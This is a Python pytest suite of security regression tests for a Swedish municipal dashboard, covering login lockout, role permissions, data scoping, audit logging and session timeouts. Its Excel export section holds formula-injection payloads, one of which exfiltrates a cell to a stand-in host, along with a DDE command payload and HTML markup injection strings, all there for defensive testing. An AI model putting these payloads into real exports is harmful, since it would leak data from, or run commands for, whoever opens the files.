"""Security regressions, one block per finding: each test failed before its fix (see README, Säkerhet)."""

from __future__ import annotations

import datetime as dt
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from sqlalchemy import func, select

from models import AuditEvent, User
from services.access import auth, settings
from services.access.auth import AccountError
from services.access.permissions import SYSTEM, NotPermitted
from services.core.db import session_scope
from services.goals import goals, targets
from services.importer import import_path
from services.staffing import workload
from tests.conftest import CONTRACT
from tests.helpers import choose, open_app, sparklines

PASSWORD = "ett-tillräckligt-långt-lösenord"
WRONG = "fel-lösenord-igen"
BURST = 20


@pytest.fixture
def org(store):
    """The contract fixture: units BOU and FAM with their teams."""
    assert import_path(store, CONTRACT).ok
    return store


# 1. Lockout: parallel guesses are counted in the database, and the decision is taken there.

def _attempt(store, barrier: threading.Barrier, password: str) -> str:
    barrier.wait()
    try:
        with session_scope(store) as session:
            auth.authenticate(session, "anna", password)
        return "inloggad"
    except AccountError as error:
        return str(error)


def _burst(store, passwords: list[str]) -> list[str]:
    barrier = threading.Barrier(len(passwords))
    with ThreadPoolExecutor(len(passwords)) as pool:
        return list(pool.map(lambda p: _attempt(store, barrier, p), passwords))


def _row(store) -> tuple[int, dt.datetime | None]:
    with session_scope(store) as session:
        return session.execute(select(User.failed_logins, User.locked_until).where(User.username == "anna")).one()


def _wrong_password_events(store) -> int:
    with session_scope(store) as session:
        return session.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.username == "anna", AuditEvent.action == "inloggning_nekad", AuditEvent.detail == "fel lösenord"))


def test_twenty_parallel_wrong_passwords_lock_the_account_and_only_five_are_checked(org):
    with session_scope(org) as session:
        auth.create_user(session, "anna", "enhetschef", ["BOU"], PASSWORD)
    results = _burst(org, [WRONG] * BURST)
    assert results.count(auth.WRONG_CREDENTIALS) == auth.MAX_FAILURES
    locked = [r for r in results if r != auth.WRONG_CREDENTIALS]
    assert len(locked) == BURST - auth.MAX_FAILURES
    assert all(r.startswith("Kontot är låst till kl. ") for r in locked), locked
    assert _wrong_password_events(org) == auth.MAX_FAILURES  # the other 15 guesses were never checked
    _, locked_until = _row(org)
    assert locked_until is not None and locked_until > dt.datetime.now() + dt.timedelta(minutes=14)
    # The right password right after the burst is refused too.
    with pytest.raises(AccountError, match="^Kontot är låst till kl. "):
        with session_scope(org) as session:
            auth.authenticate(session, "anna", PASSWORD)


def test_the_right_password_in_a_burst_is_refused_once_the_burst_has_locked_the_account(org, monkeypatch):
    """The right guess is checked while the wrong ones lock the account: its 'not locked' must be decided after."""
    with session_scope(org) as session:
        auth.create_user(session, "anna", "enhetschef", ["BOU"], PASSWORD)
    wrong_done = threading.Semaphore(0)
    all_wrong_done = threading.Event()
    finished = []
    real_verify = auth._verify

    def verify(password_hash, password):
        if password == PASSWORD:
            assert all_wrong_done.wait(timeout=120)  # the right guess's check ends after every wrong one
        return real_verify(password_hash, password)

    monkeypatch.setattr(auth, "_verify", verify)
    barrier = threading.Barrier(BURST + 1)

    def wrong() -> str:
        result = _attempt(org, barrier, WRONG)
        finished.append(result)
        if len(finished) == BURST:
            all_wrong_done.set()
        wrong_done.release()
        return result

    with ThreadPoolExecutor(BURST + 1) as pool:
        right = pool.submit(_attempt, org, barrier, PASSWORD)
        wrongs = [pool.submit(wrong) for _ in range(BURST)]
        results = [w.result() for w in wrongs]
        right_result = right.result()
    assert right_result.startswith("Kontot är låst till kl. "), right_result
    assert auth.WRONG_CREDENTIALS in results
    _, locked_until = _row(org)
    assert locked_until is not None and locked_until > dt.datetime.now()
    with session_scope(org) as session:
        assert session.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.username == "anna", AuditEvent.action == "inloggning")) == 0


def test_a_locked_account_refuses_the_right_password_and_opens_after_the_lockout(org):
    now = dt.datetime(2026, 11, 23, 9, 0)
    with session_scope(org) as session:
        auth.create_user(session, "anna", "enhetschef", ["BOU"], PASSWORD)
    for _ in range(auth.MAX_FAILURES - 1):
        with pytest.raises(AccountError, match="^Fel användarnamn eller lösenord.$"):
            with session_scope(org) as session:
                auth.authenticate(session, "anna", WRONG, now)
    assert _row(org) == (auth.MAX_FAILURES - 1, None)
    with session_scope(org) as session:  # the fifth try is the right one: accepted, the count starts over
        auth.authenticate(session, "anna", PASSWORD, now)
    assert _row(org) == (0, None)
    for _ in range(auth.MAX_FAILURES):
        with pytest.raises(AccountError, match="^Fel användarnamn eller lösenord.$"):
            with session_scope(org) as session:
                auth.authenticate(session, "anna", WRONG, now)
    assert _row(org) == (0, now + auth.LOCKOUT)
    with pytest.raises(AccountError, match="^Kontot är låst till kl. 09.15 "):
        with session_scope(org) as session:
            auth.authenticate(session, "anna", PASSWORD, now + dt.timedelta(minutes=14))
    with session_scope(org) as session:
        assert auth.authenticate(session, "anna", PASSWORD, now + auth.LOCKOUT).username == "anna"
    assert _row(org) == (0, None)


# 2. Who may change what: checked in the services with the actor's role and scope (README, the role table).

OK = "ja"
ACCOUNTS = {  # name: (role, scopes)
    "adm": ("admin", []),
    "chef_bou": ("enhetschef", ["BOU"]),
    "chef_fam": ("enhetschef", ["FAM"]),
    "bitr_utr1": ("bitr_enhetschef", ["UTR1"]),
    "ledn": ("ledning", []),
    "pres_bou": ("presentation", ["BOU"]),
}


@pytest.fixture
def actors(org):
    """One account per role on the contract fixture, and a BOU enhetsmål; returns (store, {name: SignedIn}, goal id)."""
    with session_scope(org) as session:
        for name, (role, scopes) in ACCOUNTS.items():
            auth.create_user(session, name, role, scopes, PASSWORD)
        goal = goals.add_goal(session, 2024, "enhet", "Skydd snabbt", None, "BOU", actor=SYSTEM)
    with session_scope(org) as session:
        return org, {name: auth.signed_in(session, name) for name in ACCOUNTS}, goal


def _try(store, write) -> str:
    """The write in a session that is rolled back afterwards, so every role tries on the same store."""
    from sqlalchemy.orm import Session

    with Session(store) as session:
        try:
            write(session)
            session.flush()
            return OK
        except NotPermitted as error:
            return str(error)
        finally:
            session.rollback()


def _model(session):
    current = workload.model_on(session, dt.date(2024, 6, 1))
    return workload.ModelVersion(dt.date(2030, 1, 1), "Ny version", current.co_handled_factor, current.categories,
                                 current.levels, current.scale)


def _round(staff_code: str):
    return lambda s, who: workload.record_round(s, dt.date(2024, 6, 1), [workload.RoundEntry(staff_code, {"utredning": (3, 0)}, 3)], who)


def _targets(scope: str):
    return lambda s, who: targets.replace_for_scope(s, 2024, scope, [{"kpi_code": "INFLOW", "period": "", "target": 10}], who)


def _setting(key: str, value):
    return lambda s, who: settings.put(s, key, value, who)


def _goal_write(kind: str):
    def write(s, who, goal):
        if kind == "grade":
            goals.set_grade(s, goal, 2024, "T1", "delvis", "Analys.", who)
        elif kind == "indicator":
            goals.add_indicator(s, goal, kpi_code="INFLOW", actor=who)
        elif kind == "activity":
            goals.add_activity(s, goal, "Genomgång", None, None, "pagar", actor=who)
        elif kind == "new_unit_goal":
            goals.add_goal(s, 2024, "enhet", "Nytt mål", None, "BOU", actor=who)
        elif kind == "kf_goal":
            goals.add_goal(s, 2024, "kf", "Goda uppväxtvillkor", actor=who)
    return write


def _account(kind: str):
    def write(s, who):
        if kind == "create":
            auth.create_user(s, "ny_person", "ledning", [], PASSWORD, actor=who)
        elif kind == "update":
            auth.update_user(s, "chef_fam", "enhetschef", ["FAM"], False, who)
        else:
            auth.set_password(s, "chef_fam", None, who)
    return write


def _refused(role: str, what: str) -> str:
    return f"Rollen {role} får inte {what}."


ROLE_NAMES = {"adm": "Administratör", "chef_bou": "Enhetschef", "chef_fam": "Enhetschef", "bitr_utr1": "Biträdande enhetschef",
              "ledn": "Ledning", "pres_bou": "Presentation"}


def _only(allowed: dict[str, str], what: str) -> dict[str, str]:
    """`allowed` (name -> OK or a scope refusal); every other account is refused by role."""
    return {name: allowed.get(name, _refused(ROLE_NAMES[name], what)) for name in ACCOUNTS}


WRITES = {
    "arbetstyngdsmodellen": (lambda s, who, g: workload.save_model_version(s, _model(s), who),
                             _only({"chef_bou": OK, "chef_fam": OK}, "ändra arbetstyngdsmodellen")),
    "mätning, medarbetare i MOT (BOU)": (lambda s, who, g: _round("H001")(s, who), _only({
        "chef_bou": OK,
        "chef_fam": "Du får bara registrera mätningar för medarbetare i dina egna arbetsgrupper, inte H001.",
        "bitr_utr1": "Du får bara registrera mätningar för medarbetare i dina egna arbetsgrupper, inte H001."},
        "registrera mätningar")),
    "mätning, medarbetare i UTR1 (BOU)": (lambda s, who, g: _round("K001")(s, who), _only({
        "chef_bou": OK, "bitr_utr1": OK,
        "chef_fam": "Du får bara registrera mätningar för medarbetare i dina egna arbetsgrupper, inte K001."},
        "registrera mätningar")),
    "mål för hela kommunen (KF)": (lambda s, who, g: _targets("")(s, who),
                                   _only({"adm": OK}, "ändra målen för hela kommunen (KF)")),
    "mål för BOU": (lambda s, who, g: _targets("BOU")(s, who), _only({
        "adm": OK, "chef_bou": OK, "chef_fam": "Du får bara ändra mål för dina egna enheter, inte BOU."}, "ändra mål")),
    "mål för arbetsgruppen UTR1": (lambda s, who, g: _targets("UTR1")(s, who), _only({
        "adm": OK, "chef_bou": OK, "chef_fam": "Du får bara ändra mål för dina egna enheter, inte BOU."}, "ändra mål")),
    "trafikljusets gränser": (lambda s, who, g: _setting("budget_traffic_light", {"green_from": 0.0, "amber_from": -0.05})(s, who),
                              _only({"adm": OK, "chef_bou": OK, "chef_fam": OK}, "ändra inställningen budget_traffic_light")),
    "tidsgränsen för inloggning": (lambda s, who, g: _setting("session_timeout_minutes", 480)(s, who),
                                   _only({"adm": OK}, "ändra inställningen session_timeout_minutes")),
    "enheternas färger": (lambda s, who, g: _setting("unit_colours", {"BOU": "#000000"})(s, who),
                          _only({"adm": OK}, "ändra inställningen unit_colours")),
    **{f"enhetsmål för BOU: {kind}": (lambda s, who, g, kind=kind: _goal_write(kind)(s, who, g), _only({
        "chef_bou": OK, "chef_fam": "Du får bara ändra enhetsmål för dina egna enheter, inte BOU."}, "ändra enhetsmål"))
       for kind in ("grade", "indicator", "activity", "new_unit_goal")},
    "KF:s inriktningsmål": (lambda s, who, g: _goal_write("kf_goal")(s, who, g), _only({"adm": OK}, "ändra KF:s inriktningsmål")),
    "skapa konto": (lambda s, who, g: _account("create")(s, who), _only({"adm": OK}, "skapa konton")),
    "ändra konto": (lambda s, who, g: _account("update")(s, who), _only({"adm": OK}, "ändra konton")),
    "nytt lösenord": (lambda s, who, g: _account("password")(s, who), _only({"adm": OK}, "byta lösenord på konton")),
}


@pytest.mark.parametrize("change", list(WRITES))
def test_each_role_may_change_only_what_the_role_table_gives_it(actors, change):
    store, users, goal = actors
    write, expected = WRITES[change]
    outcome = {name: _try(store, lambda s, who=who: write(s, who, goal)) for name, who in users.items()}
    assert outcome == expected


def test_a_writer_refuses_a_bare_user_name_instead_of_the_signed_in_user(actors):
    store, _, _ = actors
    with pytest.raises(TypeError, match="SignedIn"):
        with session_scope(store) as session:
            settings.put(session, "budget_traffic_light", {"green_from": 0.0, "amber_from": -0.5}, "chef_bou")


def test_a_refused_change_writes_nothing(actors):
    store, users, _ = actors
    with session_scope(store) as session:
        before = targets.for_scope(session, 2024, "").values.tolist()
    with pytest.raises(NotPermitted, match=r"^Rollen Enhetschef får inte ändra målen för hela kommunen \(KF\)\.$"):
        with session_scope(store) as session:
            targets.replace_for_scope(session, 2024, "", [], users["chef_bou"])
    with session_scope(store) as session:
        assert targets.for_scope(session, 2024, "").values.tolist() == before != []


def test_the_pages_offer_only_the_changes_the_role_may_make(monkeypatch, sample_store):
    tabs = {}
    for user in ("t_chef", "t_bitr"):
        at = open_app(monkeypatch, sample_store, user=user, script="pages/arbetstyngd.py")
        tabs[user] = [t.label for t in at.tabs]
    assert "Registrera mätning" in tabs["t_chef"] and "Modellen" in tabs["t_chef"]
    assert "Registrera mätning" in tabs["t_bitr"] and "Modellen" not in tabs["t_bitr"]
    scopes = {}
    for user in ("t_chef_fam", "t_admin"):
        at = open_app(monkeypatch, sample_store, user=user, script="pages/mal.py")
        scopes[user] = next(r.options for r in at.radio if r.label == "Gäller")
    assert scopes == {"t_chef_fam": ["Familjeenheten"], "t_admin": ["Barn- och ungdomsenheten", "Hela kommunen (KF)"]}
    at = open_app(monkeypatch, sample_store, user="t_bitr", script="pages/mal.py")
    assert not [b for b in at.button if b.label == "Spara bedömningen"]  # enhetsmål are the enhetschef's


# 3. Start shows only the units the user may see.

def test_the_store_summary_covers_only_the_users_units(org):
    from models import (
        BudgetLine,
        Intake,
        Intervention,
        Investigation,
        Staff,
        Team,
        WorkloadMeasurement,
    )
    from services.core import store_info

    with session_scope(org) as session:
        auth.create_user(session, "chef_fam", "enhetschef", ["FAM"], PASSWORD)
    with session_scope(org) as session:
        fam = auth.signed_in(session, "chef_fam").access
        everything = store_info.summary(session)
        seen = store_info.summary(session, fam)

        def in_fam(model, team_column):
            return session.scalar(select(func.count()).select_from(model).join(Team, Team.team_code == team_column)
                                  .where(Team.unit_code == "FAM"))

        expected = {
            "Aktualiseringar": in_fam(Intake, Intake.team_code),
            "Utredningar": in_fam(Investigation, Investigation.team_code),
            "Insatser": in_fam(Intervention, Intervention.team_code),
            "Personal": in_fam(Staff, Staff.team_code),
            "Arbetstyngdsmätningar": session.scalar(
                select(func.count()).select_from(WorkloadMeasurement).join(Staff, Staff.staff_code == WorkloadMeasurement.staff_code)
                .join(Team, Team.team_code == Staff.team_code).where(Team.unit_code == "FAM")),
            "Budgetrader": session.scalar(select(func.count()).select_from(BudgetLine).where(BudgetLine.unit_code == "FAM")),
        }
        fam_dates = session.execute(select(func.min(Intake.received_date), func.max(Intake.received_date))
                                    .join(Team, Team.team_code == Intake.team_code).where(Team.unit_code == "FAM")).one()
    assert seen.units == [{"unit_code": "FAM", "unit_name": "Familjeenheten", "district": "Testby stadsdel", "teams": 1}]
    assert seen.counts == expected
    assert sum(everything.counts.values()) > sum(expected.values()) > 0
    assert (seen.first_intake, seen.last_intake) == tuple(fam_dates)
    assert [u["unit_code"] for u in everything.units] == ["BOU", "FAM"]


def test_start_shows_an_enhetschef_only_her_own_unit(monkeypatch, sample_store):
    at = open_app(monkeypatch, sample_store, user="t_chef_fam", script="pages/start.py")
    units = at.dataframe[0].value
    assert units["Kod"].tolist() == ["FAM"] and units["Enhet"].tolist() == ["Familjeenheten"]
    from services.core import store_info
    from services.core.db import get_engine

    with session_scope(get_engine(sample_store)) as session:
        fam = auth.signed_in(session, "t_chef_fam").access
        expected = store_info.summary(session, fam).counts
        everything = store_info.summary(session).counts
    shown = {m.label: int(m.value.replace("\u00a0", "")) for m in at.metric}
    assert shown == expected and shown["Aktualiseringar"] < everything["Aktualiseringar"]


# 4. The presentation role opens Start, as the README's role table says (figures only, no names).

def test_the_presentation_role_opens_start_with_its_units_and_no_names(monkeypatch, sample_store):
    at = open_app(monkeypatch, sample_store, user="t_pres", script="pages/start.py")  # she lands on the presentation
    assert [t.value for t in at.title] == ["Enhetskollen"]
    assert not at.error
    assert [m.label for m in at.metric][:3] == ["Aktualiseringar", "Utredningar", "Insatser"]
    assert at.dataframe[0].value["Kod"].tolist() == ["BOU"]
    shown = "\n".join(m.value for m in at.markdown)
    assert "**Senaste exempeldata:** " in shown and " av " not in shown  # no user name on a shared screen
    assert not [t.value for t in at.text if t.value.startswith("Inloggad:")]
    at = open_app(monkeypatch, sample_store, user="t_pres", script="pages/start.py")
    assert "Den här sidan ingår inte i din roll." not in [e.value for e in at.error]
    assert [t.value for t in at.title] == ["Enhetskollen"]


# 5. Excel: text from data is text, never a formula or a link.

EVIL_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
EVIL_TEXTS = {  # written as -> read back as (a leading ' makes Excel keep the cell text if someone edits it)
    EVIL_FORMULA: "'" + EVIL_FORMULA,
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'_x000D_=1+1",  # xlsx stores a carriage return as _x000D_, and openpyxl reads it so
    "http://evil.example/x": "http://evil.example/x",
    "Mottagningsgruppen": "Mottagningsgruppen",
    "-2\u00a0450\u00a0001\u00a0kr": "-2\u00a0450\u00a0001\u00a0kr",  # a formatted number stays as the page shows it
    "-3,5\u00a0%": "-3,5\u00a0%",
}


def _cells(data: bytes) -> list:
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_page_workbook_writes_text_as_text(tmp_path):
    import pandas as pd

    from ui.output.excel import workbook

    frame = pd.DataFrame({"Namn": list(EVIL_TEXTS), "Antal": range(len(EVIL_TEXTS))})
    cells = _cells(workbook({"Tabell": frame, "=Blad": frame.rename(columns={"Namn": "=Namn"})}))
    names = [c for c in cells if c.column == 1 and c.row > 1]
    assert [c.value for c in names] == list(EVIL_TEXTS.values()) * 2
    assert {c.data_type for c in names} == {"s"}
    assert not [c for c in cells if c.data_type == "f" or c.hyperlink is not None]
    assert [c.value for c in cells if c.row == 1 and c.column == 1] == ["Namn", "'=Namn"]
    assert [c.value for c in cells if c.column == 2 and c.row == 3] == [1, 1]  # numbers stay numbers


def test_cli_export_xlsx_writes_names_from_the_store_as_text(org, tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    from sqlalchemy import update

    from models import Team

    with session_scope(org) as session:
        session.execute(update(Team).where(Team.team_code == "UTR1").values(team_name=EVIL_FORMULA))  # on the Arbetstyngd sheet
        goal = goals.add_goal(session, 2024, "enhet", "Skydd snabbt", None, "BOU", actor=SYSTEM)
        goals.add_indicator(session, goal, name="@SUM(A1:A9)", target=0.8, is_share=True, actor=SYSTEM)
        goals.add_indicator(session, goal, name="http://evil.example/x", target=0.8, is_share=True, actor=SYSTEM)
    out = tmp_path / "tabeller.xlsx"
    root = Path(__file__).resolve().parent.parent
    done = subprocess.run([sys.executable, "cli.py", "export", "xlsx", "--unit", "BOU", "--year", "2024", "--period", "T1",
                           "-o", str(out), "--database-url", org.url.render_as_string(hide_password=False)],
                          cwd=root, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    cells = _cells(out.read_bytes())
    assert not [c for c in cells if c.data_type == "f" or c.hyperlink is not None]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EVIL_FORMULA in texts and EVIL_FORMULA not in texts
    assert "'@SUM(A1:A9)" in texts and "http://evil.example/x" in texts


# 6. Names from the data are text in every chart, never Plotly markup.

HTML_TEAM = '<a href="http://x">T</a>'
ESCAPED_TEAM = '&lt;a href="http://x"&gt;T&lt;/a&gt;'


def test_a_figure_built_from_a_team_with_markup_carries_the_escaped_text():
    import json

    import plotly.graph_objects as go

    from ui.widgets import charts

    fig = go.Figure(go.Bar(y=[HTML_TEAM, "Grupp <b>B</b>"], x=[0.5, 0.25], orientation="h", name=HTML_TEAM,
                           text=[HTML_TEAM, "<span style='font-size:80px'>x</span>"], hovertext=[HTML_TEAM, "B & C"],
                           hovertemplate="%{y}: %{x:.0%}<extra></extra>"))
    fig.update_yaxes(tickvals=[0, 1], ticktext=[HTML_TEAM, "B"])
    charts.titled(fig, f"Andel per arbetsgrupp, {HTML_TEAM}")
    safe = charts.inert(fig)
    trace = safe.data[0]
    assert trace.name == ESCAPED_TEAM
    assert list(trace.y) == [ESCAPED_TEAM, "Grupp &lt;b&gt;B&lt;/b&gt;"]
    assert list(trace.text) == [ESCAPED_TEAM, "&lt;span style='font-size:80px'&gt;x&lt;/span&gt;"]
    assert list(trace.hovertext) == [ESCAPED_TEAM, "B &amp; C"]
    assert trace.hovertemplate == "%{y}: %{x:.0%}<extra></extra>"  # the template is code, not data
    assert list(safe.layout.yaxis.ticktext) == [ESCAPED_TEAM, "B"]
    assert safe.layout.title.text == f"Andel per arbetsgrupp, {ESCAPED_TEAM}"
    assert "<a href" not in json.dumps(safe.to_plotly_json(), default=str)
    assert fig.data[0].name == HTML_TEAM  # the page's own figure (and its table of numbers) keeps the name
    assert charts.figure_table(fig).iloc[:, 0].tolist() == [HTML_TEAM, "Grupp <b>B</b>"]


@pytest.mark.parametrize("page", ["pages/oversikt.py", "pages/inflode.py", "pages/tidsfrister.py", "pages/placeringar.py",
                                  "pages/personal.py", "pages/arbetstyngd.py", "pages/ekonomi.py", "pages/presentation.py"])
def test_every_chart_on_the_pages_shows_a_team_name_with_markup_as_text(monkeypatch, org, page):
    import json

    import streamlit as st
    from sqlalchemy import update

    from models import Team

    with session_scope(org) as session:
        session.execute(update(Team).values(team_name=Team.team_name + " " + HTML_TEAM))
        auth.create_user(session, "chef_bou", "enhetschef", ["BOU", "FAM"], PASSWORD)
    st.cache_data.clear()  # the test store's URL is shared by many tests
    try:
        at = open_app(monkeypatch, org.url.render_as_string(hide_password=False), user="chef_bou", script=page)
        choose(at, 2024, "helår", unit="Barn- och ungdomsenheten")
        specs = [json.loads(chart.proto.spec) for chart in at.get("plotly_chart")]
        trends = sparklines(at)  # Översikt's cards: inline SVG
    finally:
        st.cache_data.clear()
    assert specs or trends, f"{page} ritade inga diagram"
    for markup in trends:  # months and numbers only: nothing from the store goes in
        assert "<a" not in markup and "<b>" not in markup and HTML_TEAM not in markup and ESCAPED_TEAM not in markup
    texts = list(_strings(specs))
    assert not [t for t in texts if "<a" in t or "<b>" in t]
    if page in TEAM_CHARTS:
        assert [t for t in texts if t.endswith(" " + ESCAPED_TEAM)], page


TEAM_CHARTS = {"pages/tidsfrister.py", "pages/arbetstyngd.py"}  # charts with a bar per team in this fixture


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


# 7. A restore brings back the backup's audit log and logs itself there, with what it dropped.

def test_a_restore_is_logged_in_the_restored_store_with_the_events_it_dropped(tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    from services.core.db import get_engine, migrate
    from services.ops import backup

    url = f"sqlite:///{tmp_path / 'store.db'}"
    engine = get_engine(url)
    migrate(engine)
    assert import_path(engine, CONTRACT).ok
    with session_scope(engine) as session:
        auth.create_user(session, "anna", "enhetschef", ["BOU"], PASSWORD)
        auth.authenticate(session, "anna", PASSWORD)
    copy = backup.backup(engine, tmp_path / "kopia.db")

    def events() -> list[tuple]:
        with session_scope(engine) as session:
            return [tuple(r) for r in session.execute(
                select(AuditEvent.id, AuditEvent.at, AuditEvent.username, AuditEvent.action, AuditEvent.target,
                       AuditEvent.detail).order_by(AuditEvent.id))]

    kept = events()
    with pytest.raises(AccountError):  # two events after the backup
        with session_scope(engine) as session:
            auth.authenticate(session, "anna", WRONG)
    with session_scope(engine) as session:
        settings.put(session, "budget_traffic_light", {"green_from": 0.0, "amber_from": -0.05}, SYSTEM)
    after = events()[len(kept):]
    assert [e[3] for e in after] == ["inloggning_nekad", "andring"]
    root = Path(__file__).resolve().parent.parent
    done = subprocess.run([sys.executable, "cli.py", "restore", "--from", str(copy), "--database-url", url],
                          cwd=root, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "Obs: 2 händelser i loggen efter säkerhetskopian finns inte längre i databasen" in done.stdout
    restored = events()
    assert restored[:-1] == kept
    _, _, who, action, target, detail = restored[-1]
    assert (who[:4], action, target) == ("cli:", "aterstallning", str(copy))
    span = f"{after[0][1]:%Y-%m-%d %H:%M} – {after[-1][1]:%Y-%m-%d %H:%M}"
    assert detail == f"från kopia.db: 2 loggade händelser efter säkerhetskopian finns inte längre i loggen ({span})"


# 8. A migration that fails halfway leaves the store as it was, on SQLite as on PostgreSQL.

def _schema(engine) -> tuple[list[str], str | None]:
    from sqlalchemy import inspect, text

    tables = sorted(inspect(engine).get_table_names())
    if "alembic_version" not in tables:
        return tables, None
    with engine.connect() as conn:
        return tables, conn.execute(text("SELECT version_num FROM alembic_version")).scalar()


@pytest.mark.parametrize(("start", "fail_at"), [(None, "0001"), ("0003", "0005")])
def test_an_interrupted_migration_leaves_the_old_version_and_a_later_start_succeeds(monkeypatch, tmp_path, start, fail_at):
    from alembic.runtime.migration import HeadMaintainer

    from models import Base
    from services.core.db import get_engine, migrate
    from tests.conftest import store_url

    engine = get_engine(store_url(f"t_migrate_{fail_at}", tmp_path))
    if start:
        migrate(engine, start)
    before = _schema(engine)
    assert before[1] == start
    real_update = HeadMaintainer.update_to_step

    def killed(self, step):  # the process dies after the revision's DDL ran, before its version is written
        if step.revision.revision == fail_at:
            raise RuntimeError("avbruten mitt i migreringen")
        return real_update(self, step)

    monkeypatch.setattr(HeadMaintainer, "update_to_step", killed)
    with pytest.raises(RuntimeError, match="avbruten mitt i migreringen"):
        migrate(engine)
    engine.dispose()
    assert _schema(engine) == before  # no partial tables, the old version (or none)
    monkeypatch.setattr(HeadMaintainer, "update_to_step", real_update)
    migrate(engine)
    tables, version = _schema(engine)
    head = sorted(f.name[:4] for f in (Path(__file__).parent.parent / "models/migrations/versions").glob("0*.py"))[-1]
    assert version == head and set(tables) == {t.name for t in Base.metadata.sorted_tables} | {"alembic_version"}


# 9. A timed-out session is cleared from the screen by the idle watch, not at the next click.

def _tick(monkeypatch, at):
    """What the browser's run_every timer does: rerun only the idle-watch fragment (AppTest has no timer)."""
    from streamlit.testing.v1 import local_script_runner

    ids = list(at._fragment_storage._ids_by_target_key.get("idle_watch", {}))
    assert len(ids) == 1, "ingen bevakning av inaktivitet på sidan"
    rerun_data = local_script_runner.RerunData
    with monkeypatch.context() as patch:
        patch.setattr(local_script_runner, "RerunData",
                      lambda **kwargs: rerun_data(**kwargs, fragment_id_queue=ids, is_auto_rerun=True))
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_the_idle_watch_clears_the_page_when_the_session_times_out(monkeypatch, sample_store):
    from sqlalchemy import Engine, event

    at = open_app(monkeypatch, sample_store, script="pages/oversikt.py")
    assert len(sparklines(at)) >= 9  # the cards' trend lines: the page is drawn
    seen = at.session_state["last_seen"]
    queries = []

    def count(*_args):
        queries.append(1)

    event.listen(Engine, "before_cursor_execute", count)
    try:
        _tick(monkeypatch, at)  # within the timeout: nothing happens, and nothing is asked of the store
    finally:
        event.remove(Engine, "before_cursor_execute", count)
    assert queries == []
    # Only the fragment ran (AppTest's tree then holds just its output): no sign-out, and a tick is no activity.
    assert not at.warning and not at.text_input and at.session_state["user_name"] == "t_chef"
    assert at.session_state["last_seen"] == seen
    at.session_state["last_seen"] = dt.datetime.now() - dt.timedelta(minutes=31)
    _tick(monkeypatch, at)
    assert [w.value for w in at.warning] == ["Du har loggats ut efter en stund utan aktivitet. Logga in igen."]
    assert not at.get("plotly_chart") and not sparklines(at) and not at.metric
    assert [t.label for t in at.text_input] == ["Användarnamn", "Lösenord"]
    from ui.shell.auth import IDLE_CHECK

    assert IDLE_CHECK == dt.timedelta(seconds=30)  # the page is cleared at most half a minute after the timeout
    from services.core.db import get_engine

    with session_scope(get_engine(sample_store)) as session:
        last = session.execute(select(AuditEvent.username, AuditEvent.action, AuditEvent.detail)
                               .order_by(AuditEvent.id.desc()).limit(1)).one()
    assert tuple(last) == ("t_chef", "utloggning", "tidsgräns")


def _peek(monkeypatch, url: str, last_seen: dt.datetime) -> str:
    from streamlit.testing.v1 import AppTest

    def script():
        import streamlit as st

        from ui.shell.frame import peek_user

        user = peek_user()
        st.text(user.username if user else "ingen")

    monkeypatch.setenv("DATABASE_URL", url)
    at = AppTest.from_function(script, default_timeout=120)
    at.session_state["user_name"], at.session_state["last_seen"], at.session_state["idle_minutes"] = "t_chef", last_seen, 30
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at.text[0].value


def test_a_timed_out_session_gets_the_sign_in_without_the_roles_page_list(monkeypatch, sample_store):
    """app.py builds the role's navigation from peek_user; once timed out, only the sign-in is built."""
    now = dt.datetime.now()
    assert _peek(monkeypatch, sample_store, now - dt.timedelta(minutes=29)) == "t_chef"
    assert _peek(monkeypatch, sample_store, now - dt.timedelta(minutes=31)) == "ingen"
